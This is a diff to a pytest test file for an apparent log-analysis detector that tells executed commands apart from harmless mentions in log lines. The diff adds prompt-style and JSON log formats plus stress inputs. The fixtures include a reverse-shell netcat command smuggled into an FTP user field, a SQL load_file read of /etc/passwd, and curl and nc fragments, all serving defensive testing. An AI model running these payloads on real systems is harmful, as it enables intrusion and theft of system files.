@@ -51,6 +51,9 @@ COMMANDS = {
     "a list of words in a pair": f"2026-11-27 10:11:12 [info] subprocess_started args=['cmd.exe', '/c', '{COMMAND}'] pid=4711",
     "brackets": f"2026-11-27 10:11:12 INFO Executing shell command [{COMMAND}]",
     "quotes in a sentence": f"2026-11-27 10:11:12 [salt.cmdmod][INFO] Executing command '{COMMAND}' in directory '/root'",
+    "a host's prompt": f"2026-11-27T10:11:12Z [7f3a1c2d] 192.0.2.7 pc7$ {COMMAND}", "a shell's prompt": f"bash-5.1# {COMMAND}", "a prompt with its folder": f"ann@pc7 /tmp % {COMMAND}", "a prompt behind a pair": f"session=7 PC7 C:\\jobs> {COMMAND}",
+    "a prompt of PowerShell": f"[PC7]: PS C:\\jobs> {COMMAND}", "a log of one's own": json.dumps({"at": 1, "event_message": f"Command dispatched for pc7: {COMMAND}"}), "a description": json.dumps({"at": 1, "description": f"about to execute: {COMMAND}"}),
+    "who ran it": f"2026-11-27 10:11:12 INFO executed by ann: {COMMAND}", "a number": f"2026-11-27 10:11:12 INFO spawned process 4711: {COMMAND}", "words with a list": json.dumps({"log": f"launching process with args: {['cmd.exe', '/c', COMMAND]}"}),
     "a verb alone": f"I1127 10:11:12.345678    4711 runner.go:88] exec {COMMAND}",
 }
 STATEMENT = "SELECT load_file('/etc/passwd')"
@@ -132,7 +135,7 @@ def test_what_somebody_gave_is_no_command_that_was_run(text):
     "2026-11-27 10:11:12 ERROR docker daemon is not running", "2026-11-27 10:11:12 INFO Started python worker 7 of 9", "2026-11-27 10:11:12 [INFO] nmap scan of 192.0.2.0/24 by ann",
     "Jan 14 11:01:19 web7 ftp[4]: FTP session opened. USER a;nc 192.0.2.7 31337 -e /bin/sh", "2026-11-27 10:11:12,345 WARN [x] a.b.Reach: /etc/ld.so.preload changed to /usr/local/lib/x.so",
     "2026-11-27 10:11:12;INFO;find customer by id;3", "2026-11-27 10:11:12|INFO|git push rejected by remote|3", "2026-11-27 10:11:12|INFO|copy /srv/a to /srv/b|3",
-    "2026-11-27 10:11:12 INFO: Read-Only mode on", "[2026-11-27 10:11:12] [main] + added 3 users", "2026-11-27 10:11:12|x|SELECT a colour|3", "2026-11-27 10:11:12;x;Drop table tennis;3", "2026-11-27 10:11:12 INFO ann searched query: SELECT * FROM a", "2026-11-27 10:11:12 ann wrote in ticket 7: query: SELECT * FROM a", 'ann,bob,"dear bob, sudo means superuser do",3', "2026-11-27 10:11:12 INFO request to /health took 3 ms",
+    "2026-11-27 10:11:12 INFO: Read-Only mode on", f"2026-11-27 10:11:12 INFO search by ann: $ {COMMAND}", f"2026-11-27 10:11:12 login failed for ann@pc7 /tmp % {COMMAND}", f"user=x $ {COMMAND}", "2026-11-27 10:11:12 INFO price 7$ for find", "2026-11-27 10:11:12 INFO ann was told to execute: read the book", "[2026-11-27 10:11:12] [main] + added 3 users", "2026-11-27 10:11:12|x|SELECT a colour|3", "2026-11-27 10:11:12;x;Drop table tennis;3", "2026-11-27 10:11:12 INFO ann searched query: SELECT * FROM a", "2026-11-27 10:11:12 ann wrote in ticket 7: query: SELECT * FROM a", 'ann,bob,"dear bob, sudo means superuser do",3', "2026-11-27 10:11:12 INFO request to /health took 3 ms",
     "Nov 27 10:11:12 gw7 box: src=192.0.2.7 url=https://shop.example/a?b=c action=allowed",
 ])
 def test_words_of_a_line_that_name_a_program_or_a_page_are_no_act(line):
@@ -182,7 +185,7 @@ def test_the_act_that_an_object_names_goes_before_an_address_in_it():
 @pytest.mark.parametrize("text", [
     '"GET /' * 4_000, "GET /a" * 6_000, "cmd=" * 8_000, 'a_cmd="' * 5_000, "executing command: " * 2_000, "command " * 4_000, "run: " * 6_000, "=cmd" * 8_000,
     "_" * 32_000 + "cmd=", "| nc -e " * 4_000, "; curl -s " * 4_000, ": /bin/a -b" * 3_000, "]: " * 10_000, "ran ['" * 5_000, "args=['a'," * 3_000, "GET;/a;" * 5_000, "|GET|/" + ";1" * 15_000,
-    "request /a?" * 3_000, "request url: " * 3_000, "query: select " * 3_000, "slow query: select " + "a " * 15_000, "<a>" * 10_000 + "</a>", "<a>b</a>" * 4_000, "\x1b[" * 10_000, 'exec "' * 5_000,
+    "request /a?" * 3_000, "request url: " * 3_000, "query: select " * 3_000, "a$ " * 8_000, "a@b c % " * 4_000, "C:\\" * 8_000, "PS " * 8_000, "[a@" * 8_000, "executed by a " * 2_000, "slow query: select " + "a " * 15_000, "<a>" * 10_000 + "</a>", "<a>b</a>" * 4_000, "\x1b[" * 10_000, 'exec "' * 5_000,
     "login " * 6_000, "user " * 5_000 + ": nc -e /bin/sh", json.dumps({"args": "[" + "'a'," * 5_000}), json.dumps({"sql": "select " + "(" * 20_000}), json.dumps({f"cmd{'_' * number}": "x " * 100 for number in range(300)}), json.dumps({"msg": ["GET /" + "a" * 200] * 300}),
     json.dumps({"cmd": {"cmd": {"cmd": ["a" * 5_000] * 6}}}), json.dumps({"cmdline": '"'}), json.dumps({"cmdline": "\u2028"}), json.dumps({"argv": [[], {}, None, 7, ""]}),
 ])
